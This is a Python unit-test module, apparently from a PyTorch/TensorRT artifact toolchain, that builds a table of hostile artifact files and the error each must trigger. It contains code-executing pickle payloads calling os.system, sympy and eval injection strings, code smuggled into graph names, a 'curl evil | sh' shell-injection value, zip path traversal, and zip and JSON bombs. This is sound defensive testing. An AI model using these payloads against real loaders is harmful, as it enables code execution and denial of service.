"""The attacks: functions that each write a hostile file, with the error that reading the file must raise."""

from __future__ import annotations

import base64
import copy
import hashlib
import io
import json
import os
import pickle  # writing only
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from tests.unit.foreign import Foreign
from tests.unit.handmade import Handmade, engine_info, golden, plan
from toolchain.container import zip_records
from toolchain.container.entry_names import GRAPH_ENTRY, MANIFEST_ENTRY, ROOT
from toolchain.container.reader import Container
from toolchain.engine.info import ENGINE_FIELD, FIELDS
from toolchain.errors import MalformedArtifactError, TrtcrossError, UntrustedError, UsageError
from toolchain.limits import (
    EXPRESSION,
    EXPRESSIONS,
    FOREIGN_GRAPH,
    GRAPH,
    GRAPH_OBJECTS,
    GRAPH_PIECE,
    GRAPH_PIECES,
    GRAPH_VALUES,
    OPERATORS,
    TREESPECS,
)

_LOCAL, _CENTRAL = zip_records.LOCAL_SIZE, 46


@dataclass(frozen=True)
class Attack:
    write: Callable[[Path], Any]
    error: type[TrtcrossError]


ATTACKS: dict[str, Attack] = {}


def attack(error: type[TrtcrossError]) -> Callable[[Callable[[Path], Any]], Callable[[Path], Any]]:
    """Adds a function that writes a hostile file to the table of attacks, under its own name.

    Args:
        error: the error that reading the file must raise.
    """

    def enter(write: Callable[[Path], Any]) -> Callable[[Path], Any]:
        ATTACKS[write.__name__] = Attack(write, error)
        return write

    return enter


def many(error: type[TrtcrossError], prefix: str, variants: dict[str, Callable[[Path], Any]]) -> None:
    ATTACKS.update({f"{prefix}_{name}": Attack(write, error) for name, write in variants.items()})


# --- code in the file -------------------------------------------------------------------------------------------


class _Payload:
    def __reduce__(self) -> Any:
        return os.system, ("echo hurt",)


PICKLE = pickle.dumps(_Payload())


def _pickle_text(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _with_fields(**values: str) -> Callable[[Path], Any]:
    """Returns a writer of an artifact whose engine info has these values."""

    def write(path: Path) -> None:
        made = Handmade()
        for name, value in values.items():
            made.nodes[0]["inputs"][1 + FIELDS.index(name)]["arg"]["as_string"] = value
        made.write(path)

    return write


def _global_pickle(module: str, name: str, argument: str) -> bytes:
    """Pickles ``module.name.__new__(module.name, argument)``, as metadata with a sympy expression would be."""

    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()

    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(argument) + b"\x85\x81."


many(
    UntrustedError,
    "metadata",
    {
        "pickle_payload": _with_fields(metadata=_pickle_text(PICKLE)),
        "pickle_protocol_0": _with_fields(metadata=_pickle_text(b"cos\nsystem\n(S'echo hurt'\ntR.")),
        "sympify_through_max": _with_fields(
            metadata=_pickle_text(
                _global_pickle("sympy.functions.elementary.miscellaneous", "Max", "__import__('os').system('x')")
            )
        ),
        "builtin_by_stack_global": _with_fields(metadata=_pickle_text(_global_pickle("builtins", "eval", "x"))),
        "pickle_bomb": _with_fields(metadata=_pickle_text(b"\x80\x04" + b"]\x94" * 100_000 + b"\x8e" + b"\xff" * 8)),
        "not_base64": _with_fields(metadata="%%%"),
    },
)


@attack(UntrustedError)
def pickled_sample_inputs(path: Path) -> None:
    Handmade(entries={"data/sample_inputs/model.pt": PICKLE}).write(path)


def _payload_config(kind: str, **changes: Any) -> Callable[[Path], Any]:
    prefix, config = {
        "weights": ("weight_0", "data/weights/model_weights_config.json"),
        "constants": ("tensor_0", "data/constants/model_constants_config.json"),
    }[kind]
    payload = {"path_name": prefix, "is_param": True, "use_pickle": False, "tensor_meta": {}, **changes}
    document = json.dumps({"config": {"w": payload}}).encode()
    return lambda path: Handmade(entries={f"data/{kind}/{prefix}": PICKLE, config: document}).write(path)


many(
    UntrustedError,
    "pickled",
    {
        "weights": _payload_config("weights", use_pickle=True),
        "weights_without_saying": _payload_config("weights", use_pickle=None),
        "constants": _payload_config("constants", use_pickle=True),
        "script_object": _payload_config("constants", path_name="custom_obj_0"),
        "path_outside": _payload_config("weights", path_name="weight_0/../../../etc/passwd"),
    },
)
many(
    UntrustedError,
    "entry",
    {
        "compiled_code": lambda path: Handmade(entries={"data/aotinductor/model/x.so": b"\x7fELF"}).write(path),
        "pickled_object": lambda path: Handmade(entries={"data/constants/custom_obj_0": PICKLE}).write(path),
        "unknown": lambda path: Handmade(entries={"data/new_in_some_torch": b""}).write(path),
    },
)


def _with_graph(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Any]:
    def write(path: Path) -> None:
        made = Handmade()
        change(made.graph or {})
        made.write(path)

    return write


def _size(text: str) -> Callable[[dict[str, Any]], None]:
    def change(graph: dict[str, Any]) -> None:
        sizes = graph["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0] = {"as_expr": {"expr_str": text, "hint": None}}

    return change


def _call(target: Any) -> Callable[[dict[str, Any]], None]:
    def change(graph: dict[str, Any]) -> None:
        argument = {"name": "", "arg": {"as_string": "echo hurt"}, "kind": 1}
        node = {"target": target, "inputs": [argument], "outputs": [], "metadata": {}, "name": "n"}
        graph["graph_module"]["graph"]["nodes"].append(node)

    return change


def enum_spec(name: str = "antigravity:X", escape: bool = False) -> str:
    context = json.dumps({"__enum__": True, "fqn": name, "name": "Y"})
    if escape:
        context = context.replace("__enum__", "\\u005f_enum__")
    return json.dumps([1, {"type": "builtins.dict", "context": context, "children_spec": []}])


_FACTORY_SPEC = json.dumps(
    [
        1,
        {
            "type": "collections.defaultdict",
            "context": {"default_factory_module": "os", "default_factory_name": "system", "dict_context": []},
            "children_spec": [],
        },
    ]
)

many(
    UntrustedError,
    "graph",
    {
        "sympy_import": _with_graph(_size("__import__('os').system('echo hurt')")),
        "sympy_import_without_dots": _with_graph(_size("__import__('antigravity')")),
        "sympy_attribute": _with_graph(_size("s0.__class__")),
        "sympy_lambda": _with_graph(_size("(lambda: 0)()")),
        "sympy_text": _with_graph(_size("Max('__import__(1)', 1)")),
        "sympy_power_bomb": _with_graph(_size("9**9**9**9")),
        "sympy_nested_powers": _with_graph(_size("Pow(" * 40 + "s0" + ", 99)" * 40)),
        "sympy_deep": _with_graph(_size("-" * 9_000 + "1")),
        "sympy_huge": _with_graph(_size("s0+" * (GRAPH_PIECE.most // 4) + "1")),
        "guards_code": _with_graph(lambda graph: graph.update(guards_code=["__import__('os')"])),
        "calls_os_system": _with_graph(_call("torch.os.system")),
        "calls_load_library": _with_graph(_call("torch.ops.load_library")),
        "calls_load_library_globals": _with_graph(_call("torch.ops.load_library.__globals__.clear")),
        "calls_torch_load": _with_graph(_call("torch.load")),
        "calls_methodcaller": _with_graph(_call("_operator.methodcaller")),
        "calls_from_file": _with_graph(_call("torch.ops.aten.from_file.default")),
        "calls_extension": _with_graph(_call("#extension")),
        "calls_a_number": _with_graph(_call(3)),
        "metadata_names_code": _with_graph(
            lambda graph: graph["graph_module"]["graph"]["nodes"][0].update(metadata={"torch_fn": "f;torch.os.system"})
        ),
        "signature_imports": _with_graph(lambda graph: graph.update(signature={"in_spec": enum_spec()})),
    },
)


def _name(text: Any, *path: Any) -> Callable[[dict[str, Any]], None]:
    """Returns an edit that renames a value of the graph; torch writes names into Python code, which it runs."""

    def change(graph: dict[str, Any]) -> None:
        place: Any = graph["graph_module"]
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = text

    return change


_INPUTS = {"signature": {"input_specs": [{"buffer": {"arg": {"name": "b"}, "buffer_name": "b", "persistent": True}}]}}


def _with_buffer(text: str) -> Callable[[dict[str, Any]], None]:
    def change(graph: dict[str, Any]) -> None:
        graph["graph_module"].update(copy.deepcopy(_INPUTS))
        graph["graph_module"]["signature"]["input_specs"][0]["buffer"]["buffer_name"] = text

    return change


def _named_node(name: str) -> Callable[[dict[str, Any]], None]:
    def change(graph: dict[str, Any]) -> None:
        _call("torch.ops.aten.relu.default")(graph)
        graph["graph_module"]["graph"]["nodes"][-1]["name"] = name

    return change


_NODE = ("graph", "nodes", 0)
_OUTPUT = (*_NODE, "outputs")
many(
    UntrustedError,
    "graph_names_code",
    {
        "of_a_node": _with_graph(_named_node("x = __import__('os').system('echo hurt'); y")),
        "of_an_input": _with_graph(_name("x=print('hurt'), *z", *_NODE, "inputs", 0, "arg", "as_tensors", 0, "name")),
        "of_an_output": _with_graph(_name([{"as_tensor": {"name": "x\nimport os"}}], *_OUTPUT)),
        "of_a_size": _with_graph(_name([{"as_sym_int": {"as_name": "s; import os"}}], *_OUTPUT)),
        "of_a_number": _with_graph(_name([{"as_tensor": {"name": 1}}], *_OUTPUT)),
        "with_a_line_end": _with_graph(_name([{"as_tensor": {"name": "x\n"}}], *_OUTPUT)),
        "of_a_buffer": _with_graph(_with_buffer("b\"), __import__('os').system('echo hurt'), (\"")),
    },
)


def _with_manifest(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Any]:
    return lambda path: Handmade(edit_manifest=change).write(path)


many(
    UntrustedError,
    "call",
    {
        "imports_a_module": _with_manifest(lambda m: m["call"].update(in_spec=enum_spec())),
        "imports_with_an_escape": _with_manifest(lambda m: m["call"].update(out_spec=enum_spec(escape=True))),
        "imports_a_factory": _with_manifest(lambda m: m["call"].update(in_spec=_FACTORY_SPEC)),
        "is_deep": _with_manifest(lambda m: m["call"].update(in_spec="[" * 100_000)),
    },
)


def _with_classes(*changes: dict[str, Any], version: int = 2) -> Callable[[Path], Any]:
    """Returns a writer of an artifact whose manifest states classes for the call's only argument."""
    plain = {"spec": "in_spec", "path": [], "name": "evil.Pair", "fields": ["left"]}
    classes = [{**plain, **change} for change in changes]
    return _with_manifest(lambda m: m.update(schema_version=version, classes=classes))


many(
    MalformedArtifactError,
    "class",
    {
        "in_version_1": _with_classes({}, version=1),
        "nowhere": _with_classes({"path": [7]}),
        "below_zero": _with_classes({"path": [-1]}),
        "of_a_value": _with_classes({"path": [0]}),
        "twice": _with_classes({}, {}),
        "too_deep": _with_classes({"path": [0] * 1000}),
        "too_many": _with_classes(*[{}] * 5000),
        "of_too_many_fields": _with_classes({"fields": ["left", "right"]}),
        "of_no_field": _with_classes({"fields": []}),
        "field_that_is_code": _with_classes({"fields": ["left=__import__('os').system('echo hurt')"]}),
        "field_that_python_uses": _with_classes({"fields": ["__class__"]}),
        "name_that_is_code": _with_classes({"name": "evil', (), {}) or exit("}),
        "spec_of_another": _with_classes({"spec": "guards"}),
    },
)

# --- the zip ----------------------------------------------------------------------------------------------------


def archive(entries: list[tuple[str, bytes]], root: str = ROOT, gap: int | None = None) -> bytes:
    """Returns a zip in the form of our writer, with any names, and with bytes of no entry before entry ``gap``."""
    data, central = b"", b""
    for index, (name, content) in enumerate(entries):
        data += b"hidden" if index == gap else b""
        head = (f"{root}/{name}".encode(), zlib.crc32(content), len(content))
        central += zip_records.central_record(*head, len(data))
        data += zip_records.local_header(*head) + content
    return data + central + zip_records.end_records(zip_records.Directory(len(data), len(central), len(entries)))


def _named(*names: str) -> Callable[[Path], Any]:
    return lambda path: path.write_bytes(archive([(name, b"x") for name in names]))


many(
    MalformedArtifactError,
    "name",
    {
        "traversal": _named("../../etc/cron.d/x"),
        "traversal_backslash": _named("..\\..\\x"),
        "absolute": lambda path: path.write_bytes(archive([("etc/passwd", b"")], root="")),
        "drive": lambda path: path.write_bytes(archive([("x", b"")], root="C:")),
        "device": _named("data/NUL"),
        "device_with_suffix": _named("data/com1.json"),
        "stream": _named("data/x:hidden"),
        "newline": _named("a\nb"),
        "escape_sequence": _named("\x9b31m"),
        "empty": _named("data//x"),
        "folder": _named("data/"),
        "trailing_dot": _named("data/x."),
        "nul_byte": _named("a\0b"),
        "twice": _named("a", "a"),
        "twice_but_for_case": _named("models/model.json", "models/MODEL.json"),
        "very_long": _named("x" * 60_000),
        "two_roots": lambda path: path.write_bytes(_two_roots()),
    },
)


def _two_roots() -> bytes:
    data = archive([("a", b""), ("b", b"")])
    return data.replace(b"artifact/b", b"artifice/b")


def _good(path: Path) -> bytes:
    return Handmade().write(path).read_bytes()


def _patched(name: str, local: bytes | None, central: bytes | None, at: int) -> Callable[[Path], Any]:
    """Returns a writer of a good artifact in which bytes of an entry's headers are overwritten.

    Args:
        local: the bytes for the local header, or None.
        central: the bytes for the central header, or None.
        at: their offset from the header's field "version".
    """

    def write(path: Path) -> None:
        data = bytearray(_good(path))
        full = f"{ROOT}/{name}".encode()
        if local is not None:
            start = data.index(full) - _LOCAL + 4 + at
            data[start : start + len(local)] = local
        if central is not None:
            start = data.rindex(full) - _CENTRAL + 6 + at
            data[start : start + len(central)] = central
        path.write_bytes(data)

    return write


_FLAGS, _METHOD, _CRC, _SIZE = 2, 4, 10, 14
many(
    MalformedArtifactError,
    "headers",
    {
        "local_name": lambda path: path.write_bytes(
            _good(path).replace(b"artifact/byteorder", b"artifact/byteordex", 1)
        ),
        "local_size": _patched("byteorder", struct.pack("<2L", 1, 1), None, _SIZE),
        "local_crc": _patched("byteorder", b"\0\0\0\0", None, _CRC),
        "local_method": _patched("byteorder", b"\x08\0", None, _METHOD),
        "both_crc_of_the_manifest": _patched(MANIFEST_ENTRY, b"\1\2\3\4", b"\1\2\3\4", _CRC),
        "both_compressed": _patched("byteorder", b"\x08\0", b"\x08\0", _METHOD),
        "both_encrypted": _patched("byteorder", b"\x01\0", b"\x01\0", _FLAGS),
        "both_with_a_descriptor": _patched("byteorder", b"\x08\0", b"\x08\0", _FLAGS),
        "size_past_the_end": _patched("byteorder", b"\xf0" * 8, b"\xf0" * 8, _SIZE),
        "zip64_without_its_field": _patched("byteorder", b"\xff" * 8, b"\xff" * 8, _SIZE),
        "extra_field": _patched("byteorder", None, b"\x04\0", _SIZE + 10),
        "version_of_the_future": _patched("byteorder", None, b"\x2e\0", 0),
    },
)


@attack(MalformedArtifactError)
def overlapping_entries(path: Path) -> None:
    # Both records point at one local header.
    data = archive([("a", b"x"), ("a", b"x")])
    second = data.rindex(b"PK\1\2")
    path.write_bytes(data[: second + 42] + b"\0\0\0\0" + data[second + 46 :])


@attack(MalformedArtifactError)
def nested_entries(path: Path) -> None:
    # The second entry's header is in the data of the first.
    inner = zip_records.local_header(b"artifact/b", 0, 0)
    outer = zip_records.local_header(b"artifact/a", zlib.crc32(inner), len(inner))
    central = zip_records.central_record(b"artifact/a", zlib.crc32(inner), len(inner), 0)
    central += zip_records.central_record(b"artifact/b", 0, 0, len(outer))
    end = zip_records.end_records(zip_records.Directory(len(outer + inner), len(central), 2))
    path.write_bytes(outer + inner + central + end)


many(
    MalformedArtifactError,
    "bytes",
    {
        "before": lambda path: path.write_bytes(b"MZ" * 50 + _good(path)),
        "behind": lambda path: path.write_bytes(_good(path) + b"tail"),
        "second_archive_behind": lambda path: path.write_bytes(_good(path) + archive([("a", b"")])),
        "in_a_comment": lambda path: path.write_bytes(_good(path)[:-2] + b"\x04\0tail"),
        "before_the_directory": lambda path: path.write_bytes(_with_gap(_good(path))),
        "before_the_first_entry": lambda path: path.write_bytes(archive([("a", b"x"), ("b", b"y")], gap=0)),
        "between_entries": lambda path: path.write_bytes(archive([("a", b"x"), ("b", b"y")], gap=1)),
        "truncated": lambda path: path.write_bytes(_good(path)[:-500]),
        "truncated_to_its_end_record": lambda path: path.write_bytes(_good(path)[-22:]),
        "none": lambda path: path.write_bytes(b""),
        "not_a_zip": lambda path: path.write_bytes(b"\x7fELF" + bytes(5000)),
    },
)


def _with_gap(data: bytes) -> bytes:
    """Adds ten bytes between the entries and their directory, with an end record that fits."""
    start = data.index(b"PK\1\2")
    (offset,) = struct.unpack_from("<L", data, len(data) - 6)
    return data[:start] + b"0123456789" + data[start:-6] + struct.pack("<L", offset + 10) + data[-2:]


@attack(MalformedArtifactError)
def zip_bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(f"{ROOT}/{GRAPH_ENTRY}", bytes(50 * 2**20))
        file.writestr(f"{ROOT}/{MANIFEST_ENTRY}", bytes(50 * 2**20))


@attack(MalformedArtifactError)
def huge_entry_count(path: Path) -> None:
    record = zip_records.central_record(b"artifact/a", 0, 0, 0)
    central, first = record * 300_000, zip_records.local_header(b"artifact/a", 0, 0)
    path.write_bytes(
        first + central + zip_records.end_records(zip_records.Directory(len(first), len(central), 300_000))
    )


def _end64(path: Path, offset: int, size: int, count: int) -> None:
    directory = zip_records.Directory(2**40, size, count)  # so far away that it is written in 64 bits
    end = bytearray(zip_records.end_records(directory))
    struct.pack_into("<Q", end, 48, offset)
    path.write_bytes(bytes(end))


many(
    MalformedArtifactError,
    "zip64",
    {
        "directory_beyond_the_file": lambda path: _end64(path, 2**63, 2**63, 1),
        "count_of_2_to_the_64": lambda path: _end64(path, 0, 0, 2**64 - 1),
        "directory_of_4_gib": lambda path: _sparse_directory(path),
    },
)


def _sparse_directory(path: Path) -> None:
    size = 2**32 if os.name == "posix" else 2**25  # a hole costs nothing here
    end = zip_records.end_records(zip_records.Directory(0, size, 5))
    with path.open("wb") as file:
        file.truncate(size)
        file.seek(size)
        file.write(end)


# --- JSON and the manifest --------------------------------------------------------------------------------------


def _manifest_text(change: Callable[[bytes], bytes]) -> Callable[[Path], Any]:
    """Returns a writer of a good artifact with a changed manifest text, whose CRC is right."""

    def write(path: Path) -> None:
        container = Container(Handmade().write(path))
        entries = [(name, container.read(name)) for name in container.entries]
        container.close()
        path.write_bytes(archive([(n, change(data) if n == MANIFEST_ENTRY else data) for n, data in entries]))

    return write


def _setting(text: bytes) -> Callable[[Path], Any]:
    return _manifest_text(lambda data: data.replace(b'"golden": 1', b'"golden": ' + text, 1))


many(
    MalformedArtifactError,
    "manifest",
    {
        "deep": _setting(b"[" * 10**6),
        "deep_but_parsable": _setting(b"[" * 300 + b"]" * 300),
        "key_twice": _manifest_text(lambda data: data.replace(b'"install"', b'"created": 1, "install"')),
        "nan": _setting(b"NaN"),
        "infinity": _setting(b"-Infinity"),
        "huge_float": _setting(b"1e999"),
        "huge_integer": _setting(b"9" * 5000),
        "very_huge_integer": _setting(b"9" * 7_000_000),
        "huge_text": _setting(b'"' + b"x" * 9_000_000 + b'"'),
        "many_values": _setting(b"[" + b"{}," * 2_000_000 + b"{}]"),
        "not_utf8": _setting(b'"\xff\xfe"'),
        "surrogate": _setting(b'"\\ud800"'),
        "escape_sequence": _with_manifest(lambda m: m["model"].update(name="\x1b]0;owned\x07")),
        "a_list": _manifest_text(lambda data: b"[]"),
        "empty": _manifest_text(lambda data: b""),
        "unknown_field": _with_manifest(lambda m: m.update(hook="os.system")),
        "missing_field": _with_manifest(lambda m: m.pop("call")),
        "no_version": _with_manifest(lambda m: m.pop("schema_version")),
        "newer_version": _with_manifest(lambda m: m.update(schema_version=3)),
        "version_is_true": _with_manifest(lambda m: m.update(schema_version=True)),
        "version_is_a_float": _with_manifest(lambda m: m.update(schema_version=1.0)),
        "text_for_a_number": _with_manifest(lambda m: m["coverage"].update(operators="1")),
        "negative_size": _with_manifest(lambda m: m["engines"][0].update(size=-1)),
        "shell_in_a_version": _with_manifest(lambda m: m["producer"].update(torch="2.14; curl evil | sh")),
        "shell_in_a_package": _with_manifest(lambda m: m["producer"]["tensorrt"].update(name="x && evil")),
        "gpu_that_is_none": _with_manifest(lambda m: m["target"].update(compute_capabilities=["sm_\uff18\uff19"])),
        "entry_not_listed": _with_manifest(lambda m: m["files"].pop("byteorder")),
        "entry_missing": _with_manifest(lambda m: m["files"].update(x=m["files"]["byteorder"])),
        "wrong_digest": _with_manifest(lambda m: m["files"]["byteorder"].update(sha256="0" * 64)),
        "wrong_size": _with_manifest(lambda m: m["files"]["byteorder"].update(size=7)),
        "says_another_name": _with_manifest(lambda m: m["engines"][0].update(name="other")),
        "says_another_node": _with_manifest(lambda m: m["engines"][0].update(node="other")),
        "says_another_release": _with_manifest(lambda m: m["target"].update(runtime="1.7.0.1")),
        "says_other_gpus": _with_manifest(lambda m: m["target"].update(compute_capabilities=["sm_90"])),
        "says_another_backend": _with_manifest(lambda m: m["target"].update(backend="tensorrt")),
        "says_another_platform": _with_manifest(lambda m: m["target"].update(platform="linux-x86_64")),
        "says_other_bindings": _with_manifest(lambda m: m["engines"][0]["inputs"][0].update(name="y")),
        "says_an_output_allocator": _with_manifest(lambda m: m["engines"][0].update(requires_output_allocator=True)),
        "says_no_golden": _with_manifest(lambda m: m.update(golden=None)),
    },
)


@attack(MalformedArtifactError)
def entries_in_another_order(path: Path) -> None:
    container = Container(Handmade().write(path))
    entries = [(name, container.read(name)) for name in container.entries]
    container.close()
    path.write_bytes(archive(entries[::-1]))


@attack(MalformedArtifactError)
def manifest_of_another_file(path: Path) -> None:
    other = Handmade(engines=[plan(b"ENGINE")]).write(path)
    container = Container(other)
    manifest = container.read(MANIFEST_ENTRY)
    container.close()
    _manifest_text(lambda data: manifest)(path)


@attack(MalformedArtifactError)
def graph_that_is_no_graph(path: Path) -> None:
    Handmade(graph={"graph_module": []}, engines=[], edit_manifest=lambda m: m.update(engines=[])).write(path)


@attack(MalformedArtifactError)
def graph_of_many_values(path: Path) -> None:
    made = Handmade()
    (made.graph or {})["x"] = [{}] * 1_500_000
    made.write(path)


@attack(MalformedArtifactError)
def graph_of_a_huge_text(path: Path) -> None:
    made = Handmade()
    (made.graph or {})["x"] = "x" * 40_000_000
    made.write(path)


@attack(MalformedArtifactError)
def graph_that_is_deep(path: Path) -> None:
    deep: list[Any] = []
    for _ in range(300):
        deep = [deep]
    _with_graph(lambda graph: graph.update(x=deep))(path)


# The largest files that are read: nothing in them is malformed, and they show the bounds of time and memory.


def _below_what_is_walked(pieces: list[Any]) -> dict[str, Any]:
    return {"a": {"b": pieces}}


@attack(UntrustedError)
def graph_of_as_many_objects_as_are_read(path: Path) -> None:
    half = [{"": 0}] * (GRAPH_OBJECTS.most // 2 - 100)
    pieces = [half, half]
    _with_graph(lambda graph: graph.update(x=_below_what_is_walked(pieces), guards_code=["1"]))(path)


@attack(UntrustedError)
def graph_of_as_many_values_as_are_read(path: Path) -> None:
    lists: list[list[int]] = [[]] * (GRAPH_VALUES.most // 5)
    numbers = [1000] * (GRAPH_VALUES.most // 3)
    pieces = [lists, numbers]
    _with_graph(lambda graph: graph.update(x=_below_what_is_walked(pieces), guards_code=["1"]))(path)


@attack(UntrustedError)
def graph_of_as_many_pieces_as_are_read(path: Path) -> None:
    _with_graph(
        lambda graph: graph.update(x=[{"": [[0] * 5, {"": []}]}] * (GRAPH_PIECES.most // 7 - 50), guards_code=["1"])
    )(path)


@attack(UntrustedError)
def graph_of_as_many_nodes_as_are_read(path: Path) -> None:
    """Writes a graph with as many values as are read, in the form in which torch writes them."""
    tensor = {"dtype": 7, "sizes": [{"as_int": 4}], "requires_grad": False, "device": {"type": "cuda", "index": 0},
              "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}  # fmt: skip
    node = {"target": "torch.ops.aten.relu.default", "inputs": [{"name": "self", "arg": {"as_tensor": {"name": "n"}},
            "kind": 1}], "outputs": [{"as_tensor": {"name": "n"}}], "metadata": {}, "name": "n"}  # fmt: skip

    def change(graph: dict[str, Any]) -> None:
        count = GRAPH_OBJECTS.most // 14
        module = graph["graph_module"]["graph"]
        module["nodes"] += [{**node, "name": f"n{i}"} for i in range(count)]
        module["tensor_values"].update((f"n{i}", {**tensor, "sizes": [{"as_int": i}]}) for i in range(count))
        graph["guards_code"] = ["1"]

    _with_graph(change)(path)


@attack(UntrustedError)
def graph_of_as_many_different_sizes_as_are_read(path: Path) -> None:
    sizes = [{"expr_str": f"s{i}*2"} for i in range(EXPRESSIONS.most // 8)]
    _with_graph(lambda graph: graph.update(x=sizes, guards_code=["1"]))(path)


@attack(UntrustedError)
def graph_of_sizes_as_long_as_are_read(path: Path) -> None:
    sizes = [
        {"expr_str": f"s{i}" + "+s0" * (EXPRESSION.most // 3 - 10)} for i in range(EXPRESSIONS.most // EXPRESSION.most)
    ]
    _with_graph(lambda graph: graph.update(x=sizes, guards_code=["1"]))(path)


@attack(UntrustedError)
def graph_of_as_many_different_signatures_as_are_read(path: Path) -> None:
    signatures = [{"in_spec": json.dumps(i)} for i in range(TREESPECS.most // 110)]
    _with_graph(lambda graph: graph.update(x=signatures, guards_code=["1"]))(path)


@attack(UntrustedError)
def graph_as_long_as_is_read(path: Path) -> None:
    piece = "\U0001f4a3" + "x" * (GRAPH_PIECE.most - 10)
    text = {
        **(Handmade(engines=[]).graph or {}),
        "guards_code": ["1"],
        "x": [piece] * (GRAPH.size // GRAPH_PIECE.most - 1),
    }
    written_graph(path, json.dumps(text, ensure_ascii=False).encode())


def written_graph(path: Path, text: bytes) -> None:
    """Writes an artifact whose graph is exactly this text."""
    container = Container(Handmade(engines=[]).write(path))
    entries = [(name, container.read(name)) for name in container.entries]
    container.close()
    manifest = json.loads(dict(entries)[MANIFEST_ENTRY])
    manifest["files"][GRAPH_ENTRY] = {"sha256": hashlib.sha256(text).hexdigest(), "size": len(text)}
    files = {GRAPH_ENTRY: text, MANIFEST_ENTRY: json.dumps(manifest).encode()}
    path.write_bytes(archive([(name, files.get(name, data)) for name, data in entries]))


@attack(MalformedArtifactError)
def graph_of_more_pieces_than_are_read(path: Path) -> None:
    _with_graph(lambda graph: graph.update(x=[0] * GRAPH_PIECES.most))(path)


@attack(MalformedArtifactError)
def graph_of_a_piece_longer_than_is_read(path: Path) -> None:
    _with_graph(lambda graph: graph.update(x="x" * (GRAPH_PIECE.most + 1)))(path)


@attack(MalformedArtifactError)
def graph_of_more_operators_than_are_read(path: Path) -> None:
    _with_graph(lambda graph: graph.update(x=[{"target": str(i)} for i in range(OPERATORS.most + 1)]))(path)


many(
    MalformedArtifactError,
    "manifest_limit",
    {
        "values": _setting(b"[" + b'{"":0},' * 120_000 + b'{}], "golden": 2'),
        "length": _setting(b'"\xf0\x9f\x92\xa3' + b"x" * 8_000_000 + b'", "golden": 2'),
    },
)

# --- guards -----------------------------------------------------------------------------------------------------


def _guards(*texts: Any, version: int = 2) -> Callable[[Path], Any]:
    """Returns a writer of a good artifact with these guards; its only input ``x`` has the shape [1..8, 3]."""

    def change(manifest: dict[str, Any]) -> None:
        manifest["inputs"][0]["shape"] = [{"symbol": "s0", "min": 1, "max": 8}, 3]
        manifest.update(schema_version=version, guards=list(texts))

    return _with_manifest(change)


many(
    MalformedArtifactError,
    "guards",
    {
        "in_version_1": _guards("x.0 > 1", version=1),
        "are_a_text": _with_manifest(lambda m: m.update(schema_version=2, guards="x.0 > 1")),
        "are_numbers": _guards(1),
        "too_many": _guards(*["x.0 > 1"] * 501),
        "too_long": _guards("x.0 > 1" + " and x.0 > 1" * 200),
        "too_deep": _guards("(" * 900 + "x.0" + ")" * 900 + " > 1"),
        "too_deep_without_brackets": _guards("not " * 450 + "x.0 > 1"),
        "too_deep_in_a_chain": _guards("x.0 - " * 300 + "1 > 1"),
        "a_huge_number": _guards("x.0 > " + "9" * 1900),
        "a_power": _guards("x.0 ** 9 ** 9 > 1"),
        "a_call": _guards("__import__('os').system('true') == 0"),
        "a_float": _guards("x.0 > 1.5"),
        "a_number_alone": _guards("x.0"),
        "of_another_input": _guards("y.0 > 1"),
        "of_another_dimension": _guards("x.2 > 1"),
        "of_an_output": _guards("output.0 == 1"),
        "divide_by_zero": _guards("x.0 // 0 == 1"),
        "divide_by_nothing_but_zero": _guards("x.0 % (x.1 - 3) == 1"),
        "contradict_the_range": _guards("x.0 > 8"),
        "contradict_a_fixed_size": _guards("x.1 == 4"),
        "contradict_each_other": _guards("x.0 % 2 == 0", "x.0 % 7 == 5", "x.0 < 5"),
    },
)

# --- engines ----------------------------------------------------------------------------------------------------


def _span(**changes: int) -> Callable[[Path], Any]:
    def change(manifest: dict[str, Any]) -> None:
        span = manifest["engines"][0]["base64"]
        span.update({name: span[name] + value for name, value in changes.items()})

    return _with_manifest(change)


def _overlapping_spans(manifest: dict[str, Any]) -> None:
    manifest["engines"][1]["base64"] = manifest["engines"][0]["base64"]


many(
    MalformedArtifactError,
    "span",
    {
        "outside": _span(offset=10**9),
        "beyond_64_bits": _span(offset=10**19),
        "misaligned": _span(offset=1),
        "early": _span(offset=-4),
        "longer": _span(length=4),
        "in_another_entry": _with_manifest(lambda m: m["engines"][0]["base64"].update(entry="byteorder")),
        "overlapping": lambda path: Handmade(engines=[plan(), plan()], edit_manifest=_overlapping_spans).write(path),
        "size_lie": _with_manifest(lambda m: m["engines"][0].update(size=2**62)),
    },
)


def _engine_text(change: Callable[[bytes], bytes], filler: bytes = b"abc") -> Callable[[Path], Any]:
    """Returns a writer of a good artifact whose engine's base64 is replaced by a text of the same length."""

    def write(path: Path) -> None:
        text = base64.b64encode(plan(filler))
        changed = change(text)
        assert len(changed) == len(text) and changed != text
        container = Container(Handmade(engines=[plan(filler)]).write(path))
        entries = [(name, container.read(name)) for name in container.entries]
        container.close()
        path.write_bytes(archive([(name, data.replace(text, changed)) for name, data in entries]))

    return write


many(
    MalformedArtifactError,
    "base64",
    {
        "line_break": _engine_text(lambda text: text[:4] + b"\n" + text[5:]),
        "space": _engine_text(lambda text: text[:4] + b" " + text[5:]),
        "urlsafe": _engine_text(lambda text: text[:4] + b"-_" + text[6:]),
        "no_padding": _engine_text(lambda text: text.replace(b"=", b"A")),
        "padding_in_the_middle": _engine_text(lambda text: text[:4] + b"AA==" + text[8:]),
        "more_padding": _engine_text(lambda text: text[:-4] + b"===="),
        "non_canonical_tail": _engine_text(lambda text: text[:-3] + bytes([text[-3] + 1]) + b"=="),
        "quote": _engine_text(lambda text: text[:4] + b'"' + text[5:]),
        "nul": _engine_text(lambda text: text[:4] + b"\0" + text[5:]),
        "another_engine": _engine_text(lambda text: base64.b64encode(plan(b"ABC"))),
    },
)


@attack(MalformedArtifactError)
def engines_swapped_within_the_file(path: Path) -> None:
    def swap(manifest: dict[str, Any]) -> None:
        first, second = manifest["engines"]
